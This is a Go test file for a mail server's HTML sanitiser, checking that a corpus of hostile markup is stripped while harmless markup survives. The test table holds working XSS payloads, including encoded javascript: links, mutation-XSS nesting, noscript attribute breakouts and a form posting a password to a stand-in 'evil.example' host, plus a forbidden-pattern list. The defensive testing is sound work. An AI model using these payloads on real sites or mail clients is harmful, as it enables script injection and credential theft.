package server

import (
	"strings"
	"testing"
)

// TestMailHTML holds the sanitiser of mail's HTML parts to a corpus of what
// senders put in mail to run script, load from elsewhere, post forms,
// restyle or take over the page: none of it may survive, and what is
// harmless is kept.
func TestMailHTML(t *testing.T) {
	// unchecked is a want for input whose output is held only to the
	// forbidden list: how much of a broken construct is left as text is
	// bluemonday's to decide.
	const unchecked = "\x00"
	tests := []struct {
		name, in string
		want     string // the whole output, unless unchecked
	}{
		{name: "script", in: `<p>hi</p><script>alert(1)</script>`, want: `<p>hi</p>`},
		{name: "script mixed case", in: `<ScRiPt>alert(1)</sCrIpT>x`, want: `x`},
		{name: "script nested", in: `<scr<script>ipt>alert(1)</scr</script>ipt>`, want: unchecked},
		{name: "script src", in: `<script src="https://evil.example/x.js"></script>`, want: ``},
		{name: "img onerror", in: `<img src=x onerror="alert(1)">`, want: ``},
		{name: "svg onload", in: `<svg/onload=alert(1)><circle r=1 /></svg>`, want: ``},
		{name: "handler attributes", in: `<p onclick="alert(1)" onmouseover=alert(2)>p</p><details open ontoggle=alert(3)>d</details>`,
			want: `<p>p</p><details open="">d</details>`},
		{name: "javascript: link", in: `<a href="javascript:alert(1)">x</a>`, want: `x`},
		{name: "javascript: link mixed case and spaced", in: `<a href=" JaVaScRiPt:alert(1)">x</a>`, want: `x`},
		{name: "javascript: link entity encoded", in: `<a href="&#106;ava&#x73;cript:alert(1)">x</a>`, want: `x`},
		{name: "javascript: link with a tab", in: "<a href=\"java\tscript:alert(1)\">x</a>", want: `x`},
		{name: "data: link", in: `<a href="data:text/html,<script>alert(1)</script>">x</a>`, want: `x`},
		{name: "vbscript: link", in: `<a href="vbscript:msgbox(1)">x</a>`, want: `x`},
		{name: "relative link into ward", in: `<a href="/admin/tokens">tokens</a>`, want: `tokens`},
		{name: "protocol-relative link", in: `<a href="//evil.example/x">x</a>`, want: unchecked},
		{name: "style element", in: `<style>body{display:none}</style><p>p</p>`, want: `<p>p</p>`},
		{name: "style attribute", in: `<div style="position:fixed;inset:0;background:url(https://evil.example/x)">d</div>`, want: `<div>d</div>`},
		{name: "class attribute", in: `<p class="error" role="alert">fake alert</p>`, want: `<p>fake alert</p>`},
		{name: "id attribute", in: `<p id="reply">clobber</p><a id="q" href="https://example.org/">a</a>`,
			want: `<p>clobber</p><a href="https://example.org/" rel="nofollow noreferrer noopener" target="_blank">a</a>`},
		{name: "iframe", in: `<iframe src="https://evil.example"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe>`, want: unchecked},
		{name: "object and embed", in: `<object data="x.swf"></object><embed src="x.swf">`, want: unchecked},
		{name: "meta refresh", in: `<meta http-equiv="refresh" content="0;url=https://evil.example">`, want: ``},
		{name: "base", in: `<base href="https://evil.example/"><a href="https://example.org/">a</a>`, want: unchecked},
		{name: "link stylesheet", in: `<link rel="stylesheet" href="https://evil.example/x.css">`, want: ``},
		{name: "form", in: `<form action="https://evil.example/steal" method="post"><input name="password"><button formaction="https://evil.example">go</button><textarea>t</textarea><select><option>o</option></select></form>`, want: unchecked},
		{name: "tracking pixel", in: `<p>hi<img src="https://tracker.example/p.gif?u=ana" width="1" height="1" alt=""></p>`, want: `<p>hi</p>`},
		{name: "image map", in: `<img usemap="#m" src="https://tracker.example/m.png"><map name="m"><area href="https://example.org/" alt="a"></map>`, want: unchecked},
		{name: "background attribute", in: `<table background="https://tracker.example/b.png"><tr><td background="https://tracker.example/c.png">c</td></tr></table>`, want: unchecked},
		{name: "raw text elements", in: `<xmp><script>alert(1)</script></xmp><noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript><title></title><script>alert(1)</script><textarea></textarea><script>alert(1)</script>`, want: unchecked},
		{name: "comment", in: `<!--<script>alert(1)</script>--><p>p</p><!--[if IE]><script>alert(1)</script><![endif]-->`, want: `<p>p</p>`},
		{name: "cdata", in: `<![CDATA[<script>alert(1)</script>]]>`, want: unchecked},
		{name: "math", in: `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>`, want: unchecked},
		{name: "template", in: `<template><script>alert(1)</script></template>`, want: unchecked},
		{name: "attribute breakout", in: `<a href="https://example.org/" title='"><script>alert(1)</script>'>a</a>`, want: unchecked},
		{name: "harmless markup", in: `<h2>Steps</h2><ol><li><b>POST</b> <code>/hook</code></li></ol><table><tr><th>a</th><td>b</td></tr></table><blockquote>quoted</blockquote>`,
			want: `<h2>Steps</h2><ol><li><b>POST</b> <code>/hook</code></li></ol><table><tr><th>a</th><td>b</td></tr></table><blockquote>quoted</blockquote>`},
		{name: "links", in: `<a href="https://example.org/poc?a=1&amp;b=2">poc</a> <a href="mailto:rae@example.net">mail</a>`,
			want: `<a href="https://example.org/poc?a=1&amp;b=2" rel="nofollow noreferrer noopener" target="_blank">poc</a> <a href="mailto:rae@example.net" rel="nofollow noreferrer">mail</a>`},
		{name: "text", in: `1 < 2 & "quoted" 'text'`, want: `1 &lt; 2 &amp; &#34;quoted&#34; &#39;text&#39;`},
		{name: "empty", in: " \n", want: ``},
	}
	// Nothing of these may be left outside text: tags that run, load or
	// post, and handler attributes.
	forbidden := []string{"<script", "<img", "<svg", "<iframe", "<object", "<embed", "<meta", "<base", "<link", "<form", "<input",
		"<button", "<textarea", "<select", "<style", "<math", "<template", " on", "javascript:", "vbscript:", "data:", "style=",
		"srcdoc", "background=", "class=", " id=", "//evil.example", "tracker.example"}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := string(mailHTML(tt.in))
			if tt.want != unchecked && got != tt.want {
				t.Errorf("mailHTML(%q) = %q, want %q", tt.in, got, tt.want)
			}
			lower := strings.ToLower(got)
			for _, bad := range forbidden {
				if strings.Contains(lower, bad) {
					t.Errorf("mailHTML(%q) = %q, which holds %q", tt.in, got, bad)
				}
			}
			// Every link that is left opens apart from the desk.
			for _, a := range strings.Split(got, "<a ")[1:] {
				if !strings.Contains(a, `rel="nofollow noreferrer`) {
					t.Errorf("mailHTML(%q): a link without rel nofollow noreferrer: %q", tt.in, a)
				}
				if strings.Contains(a, `href="http`) && (!strings.Contains(a, "noopener") || !strings.Contains(a, `target="_blank"`)) {
					t.Errorf("mailHTML(%q): a web link that does not open apart: %q", tt.in, a)
				}
			}
		})
	}
}

func TestHumanSize(t *testing.T) {
	for _, tt := range []struct {
		n    int64
		want string
	}{{0, "0 B"}, {1023, "1023 B"}, {1024, "1 KiB"}, {1536, "1.5 KiB"}, {12 << 10, "12 KiB"}, {3565158, "3.4 MiB"}, {50 << 20, "50 MiB"}, {5 << 30, "5 GiB"}} {
		if got := humanSize(tt.n); got != tt.want {
			t.Errorf("humanSize(%d) = %q, want %q", tt.n, got, tt.want)
		}
	}
}
